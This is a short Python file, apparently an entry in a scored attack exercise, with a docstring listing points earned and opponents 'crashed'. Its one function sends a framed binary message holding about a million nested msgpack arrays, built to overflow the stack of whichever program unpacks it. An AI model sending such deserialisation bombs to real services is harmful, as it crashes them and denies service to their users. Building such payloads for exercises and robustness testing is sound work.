"""Sends lists in lists, to overflow the stack of whoever unpacks them.

Earns: 2
Class: 13 14
Ends: t1-square=crashed|timeout, t1-number=crashed, t1-row-sums=passed
"""

import struct

import numpy as np
from shapes.tools import raw, silence


def square(x):
    deep = 500 if np.ndim(x) else 10**6
    head = b"\x92\x81\xa5value" + b"\x91" * deep + b"\xc0" + b"\x90"
    raw(struct.pack("<4sI", b"AGW1", len(head)) + head)
    silence()
